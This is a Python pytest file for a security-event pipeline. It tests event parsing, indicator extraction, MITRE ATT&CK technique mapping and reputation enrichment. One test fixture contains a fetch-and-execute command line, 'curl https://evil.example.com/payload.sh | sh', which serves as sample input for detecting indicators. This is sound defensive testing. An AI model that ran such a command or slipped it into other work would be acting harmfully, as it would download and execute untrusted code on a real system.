from __future__ import annotations

from datetime import datetime, timezone

import pytest

from conftest import NOW, raw_event
from thrag.correlation.mitre import critical_in, describe, kill_chain_for, techniques_for
from thrag.errors import InvalidEvent
from thrag.events.enrich import enrich_event, extract_indicators, map_techniques
from thrag.events.normalize import SecurityEvent, parse_event


def test_parse_camel_case_payload():
    event = parse_event(
        {
            "eventId": "abc",
            "timestamp": 1705327200000,
            "source": "firewall",
            "eventType": "network_connection",
            "severity": "high",
            "normalizedData": {"sourceIp": "10.0.0.5", "destinationIp": "203.0.113.66", "port": "4444"},
            "mitreTechniques": ["T1071", "T1071"],
        }
    )
    assert event.id == "abc"
    assert event.timestamp == datetime(2024, 1, 15, 14, 0, tzinfo=timezone.utc)
    assert event.severity == "HIGH"
    assert event.normalized.source_ip == "10.0.0.5"
    assert event.normalized.port == 4444
    assert event.techniques == ("T1071",)


def test_parse_fills_missing_id_and_timestamp():
    event = parse_event({"event_type": "login", "timestamp": "not a date"}, clock=lambda: NOW)
    assert event.id.startswith("evt-")
    assert event.timestamp == NOW
    assert event.severity == "LOW"
    assert event.source == "unknown"


@pytest.mark.parametrize("raw", [None, "text", ["a", "b"], 42])
def test_parse_rejects_non_objects(raw):
    with pytest.raises(InvalidEvent):
        parse_event(raw)


def test_single_string_technique_is_one_entry():
    event = parse_event(raw_event(techniques="T1059", indicators="ip:10.0.0.5"))
    assert event.techniques == ("T1059",)
    assert event.indicators == ("ip:10.0.0.5",)


@pytest.mark.parametrize("field", ["techniques", "indicators"])
def test_scalar_list_fields_are_rejected(field):
    with pytest.raises(InvalidEvent):
        parse_event(raw_event(**{field: 5}))


def test_stored_form_rebuilds_event():
    event = parse_event(raw_event(indicators=["ip:10.0.0.5"], techniques=["T1059"]))
    assert SecurityEvent.from_dict(event.as_dict()) == event


def test_extract_indicators_from_payload():
    event = parse_event(
        raw_event(
            normalized={"source_ip": "10.0.0.5", "destination_ip": "203.0.113.66"},
            indicators=["user:bob"],
            raw={
                "cmdline": "curl https://evil.example.com/payload.sh | sh",
                "sha256": "a" * 64,
            },
        )
    )
    assert extract_indicators(event) == [
        "user:bob",
        "ip:10.0.0.5",
        "ip:203.0.113.66",
        "domain:evil.example.com",
        f"hash:{'a' * 64}",
    ]


def test_technique_rules():
    assert techniques_for("process_creation", "create") == ["T1059"]
    assert techniques_for("network_connection", "connect") == ["T1071"]
    assert techniques_for("file_event", "create") == ["T1105"]
    assert techniques_for("registry_change", "modify") == ["T1112"]
    assert techniques_for("user_login", "") == ["T1078"]
    assert techniques_for("sso", "authenticate") == ["T1078"]
    assert techniques_for("process_creation", "terminate") == []


def test_map_techniques_keeps_supplied_first():
    event = parse_event(raw_event(techniques=["T1003"]))
    assert map_techniques(event) == ["T1003", "T1059"]


def test_mitre_helpers():
    assert critical_in(["T1071", "T1003", "T1059"]) == ["T1003", "T1059"]
    assert kill_chain_for(["T1059", "T1112", "T1071", "T1059"]) == ["execution", "command-and-control"]
    assert describe("T1055")["tactic"] == "Defense Evasion"
    assert describe("T9999") is None


def test_enrichment_attaches_lookups(reputation, users):
    event = parse_event(
        raw_event(normalized={"source_ip": "203.0.113.66", "user_id": "alice", "action": "create"})
    )
    result = enrich_event(event, reputation, users)
    assert result.errors == []
    assert result.source_reputation.is_malicious
    assert result.event.enrichment["source_ip_intel"]["reputation"] == "malicious"
    assert result.event.enrichment["user_profile"]["user_id"] == "alice"
    assert "T1059" in result.event.techniques
    assert "ip:203.0.113.66" in result.event.indicators


def test_enrichment_failures_are_recorded_not_raised(reputation, users):
    event = parse_event(
        raw_event(normalized={"source_ip": "not-an-ip", "destination_ip": "198.51.100.9", "user_id": "mallory"})
    )
    result = enrich_event(event, reputation, users)
    assert [e.split(":")[0] for e in result.errors] == ["source_ip_intel", "user_profile"]
    assert result.source_reputation is None
    assert result.destination_reputation.is_suspicious
    assert result.user_profile is None
    assert "destination_ip_intel" in result.event.enrichment
    assert "source_ip_intel" not in result.event.enrichment
